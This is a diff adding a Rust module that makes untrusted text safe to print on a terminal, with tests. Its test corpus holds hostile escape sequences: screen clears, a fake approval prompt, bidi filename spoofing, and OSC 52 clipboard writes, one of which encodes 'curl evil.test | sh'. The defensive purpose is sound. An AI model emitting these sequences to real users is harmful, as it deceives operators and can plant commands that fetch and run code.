@@ -1,0 +1,189 @@
+//! Text from outside the host, made safe to print on a terminal.
+//!
+//! Anything the guest, the model or a web page wrote (ask_user questions,
+//! safety-check messages, final answers, error messages, origins, versions,
+//! container logs) may hold control and escape sequences: CSI (clear the
+//! screen, move the cursor to paint a fake prompt), OSC 52 (write the
+//! operator's clipboard), BEL, backspaces and carriage returns (overwrite
+//! what was printed), C1 controls (U+0080..U+009F, which some terminals
+//! read as ESC-sequences), and bidirectional overrides (show text in
+//! another order than it is). [`safe`] is the one place that neutralises
+//! them: each such character is replaced by a visible escape (`\x1b`,
+//! `\u{202e}`), so nothing is hidden and nothing is interpreted. Every
+//! other character, non-ASCII text included, is kept as it is.
+//!
+//! Newlines are kept by [`safe`] (questions and answers have lines) and
+//! escaped by [`safe_line`], for fields that must stay on one line.
+
+use std::fmt::Write as _;
+
+/// Whether `c` must not reach a terminal as it is: every control
+/// character (C0 but `\n` and `\t`, DEL, C1) and the invisible format
+/// characters that reorder or hide text.
+fn dangerous(c: char) -> bool {
+    match c {
+        '\n' | '\t' => false,
+        c if c.is_control() => true,
+        // Arabic letter mark, LRM/RLM, line and paragraph separators,
+        // the embeddings and overrides (LRE..RLO), the isolates
+        // (LRI..PDI), zero-width space, word joiner and the invisible
+        // operators, deprecated format characters, the BOM, interlinear
+        // annotations.
+        '\u{061C}'
+        | '\u{200B}'
+        | '\u{200E}'
+        | '\u{200F}'
+        | '\u{2028}'..='\u{202E}'
+        | '\u{2060}'..='\u{2064}'
+        | '\u{2066}'..='\u{206F}'
+        | '\u{FEFF}'
+        | '\u{FFF9}'..='\u{FFFB}' => true,
+        _ => false,
+    }
+}
+
+fn neutralise(text: &str, keep_newlines: bool) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if c == '\n' && !keep_newlines {
+            out.push_str("\\n");
+        } else if dangerous(c) {
+            let n = c as u32;
+            if n < 0x80 {
+                let _ = write!(out, "\\x{n:02x}");
+            } else {
+                let _ = write!(out, "\\u{{{n:04x}}}");
+            }
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// `text` with every control and escape sequence made visible and inert;
+/// line breaks (`\n`) and tabs are kept.
+pub fn safe(text: &str) -> String {
+    neutralise(text, true)
+}
+
+/// Like [`safe`], and line breaks are escaped too: for one-line fields
+/// (error messages, origins, codes, versions).
+pub fn safe_line(text: &str) -> String {
+    neutralise(text, false)
+}
+
+/// A JSON value with [`safe`] applied to every string in it (keys too), for
+/// summaries printed as JSON: serde_json escapes C0 controls but writes
+/// DEL, C1 controls and bidirectional overrides as they are.
+pub fn safe_json(v: &serde_json::Value) -> serde_json::Value {
+    use serde_json::Value;
+    match v {
+        Value::String(s) => Value::String(safe(s)),
+        Value::Array(a) => Value::Array(a.iter().map(safe_json).collect()),
+        Value::Object(o) => Value::Object(o.iter().map(|(k, x)| (safe(k), safe_json(x))).collect()),
+        other => other.clone(),
+    }
+}
+
+/// Whether `text` holds nothing a terminal would interpret (newlines and
+/// tabs allowed): what [`safe`] guarantees.
+pub fn is_inert(text: &str) -> bool {
+    !text.chars().any(dangerous)
+}
+
+/// Escape sequences a hostile page, guest or model could print, by name:
+/// the corpus the tests here and in the approval prompts check against.
+#[cfg(test)]
+pub(crate) fn corpus() -> Vec<(&'static str, String)> {
+    let mut c: Vec<(&'static str, String)> = vec![
+        ("CSI clear screen", "before\x1b[2J\x1b[Hafter".into()),
+        (
+            "CSI cursor up and erase line",
+            "ok\x1b[1A\x1b[2Kfake".into(),
+        ),
+        (
+            "OSC 52 clipboard write",
+            "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07".into(),
+        ),
+        ("OSC 52 with ST", "\x1b]52;c;ZWNobyBodW50ZXIy\x1b\\".into()),
+        (
+            "OSC 8 hyperlink",
+            "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\".into(),
+        ),
+        ("window title", "\x1b]0;root@host\x07".into()),
+        ("BEL", "ding\x07\x07".into()),
+        ("backspaces", "no\x08\x08yes".into()),
+        (
+            "carriage return fake prompt",
+            "working...\rApprove? Type `yes`: ".into(),
+        ),
+        ("DEL", "a\x7fb".into()),
+        ("NUL and VT and FF", "a\0b\x0bc\x0cd".into()),
+        ("8-bit CSI", "x\u{9b}2Jy".into()),
+        ("8-bit OSC and ST", "\u{9d}52;c;Zm9v\u{9c}".into()),
+        ("RLO bidi override", "invoice\u{202e}fdp.exe".into()),
+        (
+            "bidi isolates and embeddings",
+            "\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{202a}d\u{202b}e\u{202c}".into(),
+        ),
+        ("LRM RLM ALM", "\u{200e}x\u{200f}y\u{061c}".into()),
+        ("zero width and BOM", "pay\u{200b}pal\u{feff}".into()),
+        ("line separators", "one\u{2028}two\u{2029}".into()),
+    ];
+    // Every C1 control on its own.
+    let c1: String = (0x80u32..=0x9f).filter_map(char::from_u32).collect();
+    c.push(("all C1 controls", c1));
+    let c0: String = (0u32..0x20).filter_map(char::from_u32).collect();
+    c.push(("all C0 controls", c0));
+    c
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_escape_sequence_of_the_corpus_is_neutralised() {
+        for (name, text) in corpus() {
+            let s = safe(&text);
+            assert!(is_inert(&s), "{name}: {s:?}");
+            for c in s.chars() {
+                assert!(
+                    c == '\n' || c == '\t' || !c.is_control(),
+                    "{name}: {c:?} survived in {s:?}"
+                );
+                assert!(
+                    !('\u{2000}'..='\u{206f}').contains(&c) || c == '\u{200c}' || c == '\u{200d}',
+                    "{name}: {c:?} survived"
+                );
+            }
+            let l = safe_line(&text);
+            assert!(!l.contains('\n') && is_inert(&l), "{name}: {l:?}");
+            // Nothing vanishes: what was there is shown.
+            assert!(s.len() >= text.len(), "{name}");
+        }
+    }
+
+    #[test]
+    fn escapes_are_visible_and_plain_text_is_kept() {
+        assert_eq!(safe("a\x1b[2Jb"), "a\\x1b[2Jb");
+        assert_eq!(safe("x\u{202e}y"), "x\\u{202e}y");
+        assert_eq!(safe("x\u{9b}y"), "x\\u{009b}y");
+        assert_eq!(safe("a\rb"), "a\\x0db");
+        assert_eq!(safe("two\nlines\tand a tab"), "two\nlines\tand a tab");
+        assert_eq!(safe_line("two\nlines"), "two\\nlines");
+        let plain = "Zoë Ångström 山田太郎 🙂 👨‍👩‍👧 `$(not a command)` ÷ é";
+        assert_eq!(safe(plain), plain);
+        assert!(is_inert(plain));
+    }
+
+    #[test]
+    fn json_summaries_are_cleaned_everywhere() {
+        let v = serde_json::json!({"message": "done\u{9b}2J", "list": ["\u{202e}x"],
+                                   "k\u{7f}": 1, "n": 2});
+        let s = serde_json::to_string(&safe_json(&v)).unwrap();
+        assert!(is_inert(&s), "{s}");
+        assert!(s.contains("\\\\u{009b}2J"), "{s}");
+    }
+}
